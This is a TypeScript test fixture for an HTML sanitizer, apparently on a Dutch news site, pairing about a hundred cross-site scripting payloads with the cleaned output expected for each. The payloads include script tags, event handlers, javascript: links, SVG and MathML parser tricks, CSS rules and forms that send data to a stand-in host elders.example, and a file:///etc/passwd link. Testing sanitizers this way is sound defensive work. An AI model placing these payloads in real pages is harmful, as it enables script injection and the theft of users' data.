import { cleanHtml } from '../src/features/content/clean-html.ts'

type HostileFragment = readonly [what: string, html: string, cleaned: string]

const picture = '<img src="/storage/a.jpg" alt="" loading="lazy" />'

const scripts: HostileFragment[] = [
  ['a script', '<script>steel()</script>', ''],
  ['a script in capitals', '<SCRIPT SRC=https://elders.example/a.js></SCRIPT>', ''],
  ['a script with blanks in its tag', '<script\n\ttype="text/javascript" >steel()</script\t\n>', ''],
  ['a script with a slash in its tag', '<script/x>steel()</script>', ''],
  ['a script that is never closed', '<p>Zout</p><script>steel()', '<p>Zout</p>'],
  ['a script inside a script tag', '<scr<script>ipt>steel()</scr</script>ipt>', 'ipt&gt;steel()ipt&gt;'],
  ['a script after a stray bracket', '<<script>steel();//<</script>', '&lt;'],
  ['a script with a NUL in its name', '<scr\0ipt>steel()</scr\0ipt>', ''],
  ['a script in a comment that ends early', '<!--><script>steel()</script>-->', '--&gt;'],
  ['a script in a conditional comment', '<!--[if gte IE 4]><script>steel()</script><![endif]-->Zout', 'Zout'],
  ['a script in CDATA', '<![CDATA[<script>steel()</script>]]>Zout', 'Zout'],
  ['a script module', '<script type="module">import("https://elders.example/a.js")</script>', ''],
  ['an import map', '<script type="importmap">{"imports":{"a":"https://elders.example/"}}</script>', ''],
  [
    'an escaped script, which stays words',
    '&lt;script&gt;steel()&lt;/script&gt;',
    '&lt;script&gt;steel()&lt;/script&gt;',
  ],
  ['a script escaped twice', '&amp;lt;script&amp;gt;', '&amp;lt;script&amp;gt;'],
]

const handlers: HostileFragment[] = [
  ['a handler of a picture', '<img src="/storage/a.jpg" onerror="steel()">', picture],
  ['a handler without quotes', '<img src=/storage/a.jpg onerror=steel()>', picture],
  ['a handler after a slash', '<img src="/storage/a.jpg"/onerror="steel()">', picture],
  ['a handler after a quote', '<img src="/storage/a.jpg""onerror="steel()">', picture],
  ['a handler in capitals', '<p ONCLICK="steel()">Zout</p>', '<p>Zout</p>'],
  ['a handler with entities', '<p onclick="&#115;teel()">Zout</p>', '<p>Zout</p>'],
  ['a handler of focus', '<h2 tabindex="0" onfocus="steel()" autofocus>Zout</h2>', '<h2>Zout</h2>'],
  ['a handler of an animation', '<p style="animation:x" onanimationstart="steel()">Zout</p>', '<p>Zout</p>'],
  ['a handler of a body', '<body onload="steel()">Zout</body>', 'Zout'],
  ['a handler of details', '<details open ontoggle="steel()">Zout</details>', 'Zout'],
  ['a handler of a marquee', '<marquee onstart="steel()">Zout</marquee>', 'Zout'],
  ['a handler of a video', '<video><source onerror="steel()"></video>Zout', 'Zout'],
]

const links: HostileFragment[] = [
  ['a javascript: link', '<a href="javascript:steel()">Zout</a>', 'Zout'],
  ['a javascript: link in mixed case', '<a href="JaVaScRiPt:steel()">Zout</a>', 'Zout'],
  ['a javascript: link with a tab', '<a href="java\tscript:steel()">Zout</a>', 'Zout'],
  ['a javascript: link with a line break as entity', '<a href="java&#10;script:steel()">Zout</a>', 'Zout'],
  ['a javascript: link with entities without semicolon', '<a href="&#106avascript&#58steel()">Zout</a>', 'Zout'],
  ['a javascript: link with a named colon', '<a href="javascript&colon;steel()">Zout</a>', 'Zout'],
  ['a javascript: link after a control character', '<a href="&#1;javascript:steel()">Zout</a>', 'Zout'],
  ['a javascript: link after blanks', '<a href="  \n javascript:steel()">Zout</a>', 'Zout'],
  ['a vbscript: link', '<a href="vbscript:steel()">Zout</a>', 'Zout'],
  ['a data: link', '<a href="data:text/html,<script>steel()</script>">Zout</a>', 'Zout'],
  ['a blob: link', '<a href="blob:https://elders.example/1">Zout</a>', 'Zout'],
  ['a file: link', '<a href="file:///etc/passwd">Zout</a>', 'Zout'],
  ['a link without a protocol', '<a href="//elders.example/">Zout</a>', 'Zout'],
  ['a link without a protocol, with backslashes', '<a href="\\/elders.example/">Zout</a>', 'Zout'],
  ['a link without a protocol, with a tab', '<a href="/\t/elders.example/">Zout</a>', 'Zout'],
  [
    'a link that reports clicks',
    '<a href="/nieuws" ping="https://elders.example/">Zout</a>',
    '<a href="/nieuws">Zout</a>',
  ],
  [
    'a link that keeps hold of this page',
    '<a href="https://elders.example/" target="_blank" rel="opener">Zout</a>',
    '<a href="https://elders.example/" target="_blank" rel="noopener noreferrer">Zout</a>',
  ],
  ['a link into a frame', '<a href="/nieuws" target="hoofd">Zout</a>', '<a href="/nieuws">Zout</a>'],
  ['an area of a map', '<map name="m"><area href="javascript:steel()"></map>Zout', 'Zout'],
]

const pictures: HostileFragment[] = [
  ['a picture from elsewhere', '<img src="https://elders.example/a.gif">', ''],
  ['a picture without a protocol', '<img src="//elders.example/storage/a.gif">', ''],
  ['a picture as data', '<img src="data:image/svg+xml,<svg onload=steel()>">', ''],
  ['a picture with a script as address', '<img src="javascript:steel()">', ''],
  ['a picture that climbs out of the files', '<img src="/storage/../api/user">', ''],
  ['a picture that climbs out with escapes', '<img src="/storage/%2e%2e/logout">', ''],
  ['a picture that climbs out with backslashes', '<img src="/storage\\..\\logout">', ''],
  [
    'a picture with other sizes elsewhere',
    '<img src="/storage/a.jpg" srcset="https://elders.example/a.gif 2x">',
    picture,
  ],
  [
    'a picture of many sources',
    '<picture><source srcset="https://elders.example/a.gif"><img src="/storage/a.jpg"></picture>',
    picture,
  ],
  ['a picture that is measured with code', '<img src="/storage/a.jpg" width="100%" height="1e9">', picture],
  ['a picture with the old names of its address', '<img lowsrc="https://elders.example/a" dynsrc="javascript:1">', ''],
]

const frames: HostileFragment[] = [
  ['a frame', '<iframe src="https://elders.example/"></iframe>', ''],
  ['a frame with its own page', '<iframe srcdoc="<script>steel()</script>"></iframe>', ''],
  ['a frame with a script as address', '<iframe src="javascript:steel()">Zout</iframe>', ''],
  ['a frame of the video host', '<iframe src="https://www.youtube-nocookie.com/embed/x"></iframe>', ''],
  ['a frameset', '<frameset><frame src="javascript:steel()"></frameset>', ''],
  ['an object', '<object data="javascript:steel()"><param name="a" value="b">Zout</object>', ''],
  ['an embed', '<embed src="https://elders.example/a.swf">', ''],
  ['an applet', '<applet code="Steel.class"></applet>', ''],
  ['a portal', '<portal src="https://elders.example/"></portal>', ''],
]

const pageWide: HostileFragment[] = [
  ['another base', '<base href="https://elders.example/">Zout', 'Zout'],
  ['a redirect', '<meta http-equiv="refresh" content="0;url=https://elders.example/">Zout', 'Zout'],
  ['a policy of its own', '<meta http-equiv="Content-Security-Policy" content="script-src *">Zout', 'Zout'],
  ['a style sheet', '<link rel="stylesheet" href="https://elders.example/a.css">Zout', 'Zout'],
  ['a prefetch', '<link rel="dns-prefetch" href="//elders.example">Zout', 'Zout'],
  ['a style that imports', '<style>@import "https://elders.example/a.css";</style>Zout', 'Zout'],
  ['a style that reads fields', '<style>input[value^=a]{background:url(//elders.example)}</style>', ''],
  ['a style attribute', '<p style="background:url(https://elders.example/a)">Zout</p>', '<p>Zout</p>'],
  ['an expression', '<p style="width:expression(steel())">Zout</p>', '<p>Zout</p>'],
  ['a layer over the page', '<p style="position:fixed;inset:0" class="toast">Zout</p>', '<p>Zout</p>'],
  [
    'a background',
    '<table background="javascript:steel()"><tr><td>Zout</td></tr></table>',
    '<table><tr><td>Zout</td></tr></table>',
  ],
  ['a title', '<title>Gekaapt</title>Zout', 'Zout'],
]

const forms: HostileFragment[] = [
  ['a form', '<form action="https://elders.example/"><input name="password">Zout</form>', 'Zout'],
  ['a button that sends elsewhere', '<button formaction="javascript:steel()">Log in</button>', ''],
  ['a field that takes the focus', '<input autofocus onfocus="steel()">', ''],
  ['a script in a text area', '<textarea></textarea><script>steel()</script>', ''],
  [
    'a picture that ends a text area',
    '<textarea><img title="</textarea><img src=x onerror=steel()>"></textarea>',
    '"&gt;',
  ],
  ['a choice', '<select><option><script>steel()</script></option></select>', ''],
  ['names that hide those of the page', '<p id="root" name="body">Zout</p>', '<p>Zout</p>'],
  ['links that hide a variable', '<a id="settings" name="settings" href="/x">a</a>', '<a href="/x">a</a>'],
  ['attributes of data', '<p data-react="{}" is="x-y" slot="a" part="b">Zout</p>', '<p>Zout</p>'],
]

const mutations: HostileFragment[] = [
  ['an SVG', '<svg onload="steel()"><circle r="9"/></svg>', ''],
  ['an SVG with a script', '<svg><script>steel()</script></svg>', ''],
  ['an SVG that is animated', '<svg><animate attributeName="href" values="javascript:steel()"/></svg>', ''],
  ['an SVG with a page in it', '<svg><foreignObject><iframe srcdoc="x"></iframe></foreignObject></svg>', ''],
  ['an SVG that uses another', '<svg><use href="https://elders.example/a.svg#b"/></svg>', ''],
  ['an SVG with a style that ends late', '<svg><style><!--</style><img src=x onerror=steel()>--></style></svg>', ''],
  ['an SVG with a title that ends late', '<svg><title><a title="</title><img src=x onerror=steel()>">', ''],
  ['MathML with a link', '<math href="javascript:steel()">Zout</math>', ''],
  [
    'MathML that changes into HTML',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=steel()&gt;">',
    '',
  ],
  ['MathML around a form', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=steel()>', ''],
  ['noscript with an attribute that ends it', '<noscript><p title="</noscript><img src=x onerror=steel()>">', ''],
  ['noembed that ends late', '<noembed><p title="</noembed><img src=x onerror=steel()>">', ''],
  ['a template', '<template><script>steel()</script></template>Zout', 'Zout'],
  ['a shadow', '<p><template shadowrootmode="open"><img src=x onerror=steel()></template>Zout</p>', '<p>Zout</p>'],
  ['plain text without an end', '<plaintext><script>steel()</script>', ''],
  ['an example without an end', '<xmp><script>steel()</script></xmp>Zout', 'Zout'],
  ['an attribute that never ends', '<img src="/storage/a.jpg" alt="><script>steel()</script>', ''],
  ['a backtick as quote', '<img src=`javascript:steel()`>', ''],
  ['an element with a colon', '<x:script xmlns:x="http://www.w3.org/1999/xhtml">steel()</x:script>', 'steel()'],
  ['a processing instruction', '<?xml-stylesheet href="javascript:steel()"?>Zout', 'Zout'],
  ['a document type', '<!DOCTYPE html [<!ENTITY x "<script>">]>Zout', '"&gt;]&gt;Zout'],
  ['tags across each other', '<b><p onclick=steel()>Zout</b></p>', '<b><p>Zout</p></b><p></p>'],
]

/** Attacks on the HTML of an article, and what may remain of each. `steel` is Dutch for steal. */
export const hostileFragments: readonly HostileFragment[] = [
  ...scripts,
  ...handlers,
  ...links,
  ...pictures,
  ...frames,
  ...pageWide,
  ...forms,
  ...mutations,
]

// A browser parses no markup after <plaintext>, but the server's parser does.
const end = '<p>Slot</p>'
const comesToAnEnd = ([, html]: HostileFragment) =>
  cleanHtml(html + end).endsWith(end) && !html.startsWith('<plaintext>')

/** Articles of them: one with all fragments that end, and one for each that would hide the next fragments. */
export const hostileArticles: readonly string[] = [
  hostileFragments
    .filter(comesToAnEnd)
    .map(([, html]) => html)
    .join('\n'),
  ...hostileFragments.filter((fragment) => !comesToAnEnd(fragment)).map(([, html]) => html),
]
